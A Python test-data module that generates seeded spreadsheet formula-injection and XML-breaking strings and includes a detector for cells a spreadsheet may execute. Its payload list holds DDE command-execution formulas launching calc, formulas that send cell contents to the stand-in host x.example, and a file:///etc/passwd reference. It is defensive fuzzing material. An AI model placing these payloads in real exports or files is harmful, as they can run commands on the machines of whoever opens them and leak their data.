"""Words that try to become formulas, or to break the files that hold them: five hundred, the same on every run."""
import random
import re

PICKED = [
    '=HYPERLINK("http://x.example/?"&A1,"اضغط")', '=WEBSERVICE("http://x.example/"&A1)', "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\u00ad=1+1", "\u00a0=1+1", '"=1+1', "'=1+1", '"",=1+1', "«=1+1»",
    "\t=1+1", "a\t=1+1", "\r=1+1", "\n=1+1", "a\r\n=1+1", "a\n+1+1", "x;=1+1", "جيد;@SUM(1)", "x\x00=1+1", "\x00=1+1",
    "\x01=1+1", "\x0b=1+1", "\x1b[31mred", "a\ufffeb", "a\uffffb", "\x7f=1", "\x85=1", "\u2028=1+1", "\u2029@a",
    "=" * 50, "==1", "+-+-1", "-1-2", "+1+2", "=١+١", "_x0041_", "_x003D_1+1", "_x0041_x0042_", "_x005F_", "a_x000D_b",
    "_xD83D_", "</t>", "</t></is><f>1+1</f>", "]]>", "<![CDATA[=1]]>", "&lt;f&gt;", "&#61;1+1", "<f>1</f>", "<!--", "%0A=1",
    "\u202eabc\u202c=1", "\u2066=1\u2069", "😀=1", "👨‍👩‍👧", "e\u0301" * 40, "ا" * 32_767, "=" + "1+" * 16_000 + "1", '"' * 99,
    ",,,", '",""', "a,b\nc,d", "{=1+1}", "{=SUM(A1:A9)}", "DDE(\"cmd\";\"/C calc\")", "IMPORTXML(A1)", "=A1", "=[0]!x",
    "file:///etc/passwd", "internal:'x'!A1", "http://x.example/", "mailto:a@x.example", "$A$1", "#REF!", "#N/A", "TRUE",
    "1E400", "0x1F", "1/2", "2026-01-01", "00123", " +1+1", " \t =1", "[c]", "- بند\n- بند",
]
UNHARMED = ["+966501234567", "+966 50 123 4567", "+966-50-123-4567", "+(966) 50 1234567", "-5", "+5", "-0.5", "جيد - ممتاز"]
SIGNS = "=+-@＝＋－＠"


def drawn(dice):
    before = ["", " ", "\u200b", "\ufeff", "'", '"', "\t", "\n", "a;", "\u202e", "\x02", "نص\n", "\u2060 ", "“"]
    after = ["1+1", "SUM(A1:A9)", "HYPERLINK(\"http://x.example\")", "cmd|'/C calc'!A0", "A1", "-1", "نص", "<f>", "_x000A_", ""]
    words = "".join(dice.choice(before) for _ in range(dice.randint(0, 3)))
    return words + dice.choice(SIGNS) + dice.choice(after) + (chr(dice.randint(1, 0x2FF)) if dice.random() < 0.3 else "")


def strings(count=500):
    dice = random.Random(9)
    made = PICKED + UNHARMED
    return made + [drawn(dice) for _ in range(count - len(made))]


def held(text):
    """What a file holds of it: XML has no place for some characters, and lines end alike."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub("[^\t\n\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", "\ufffd", text)


def is_formula(cell):
    """Whether a spreadsheet may run a cell of a CSV file, or a part of it where other signs part cells."""
    passed = r"[\s\x00-\x1f\x7f-\xa0\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202f\u2060-\u2069\ufeff\ufffd\"“”„‘’‚«»`]*"
    harmless = r"[+-]\d+(\.\d+)?$|\+(?=.{0,19}$)(?=(\D*\d){8})(?!(\D*\d){16})[\d ()-]+$"
    for part in re.split(r"[;\t\n\r]", cell):
        words = re.sub("^" + passed, "", part)
        if words[:1] and words[0] in SIGNS and not re.match(harmless, words):
            return True
    return cell[:1] in ("\t", "\r", "\n")
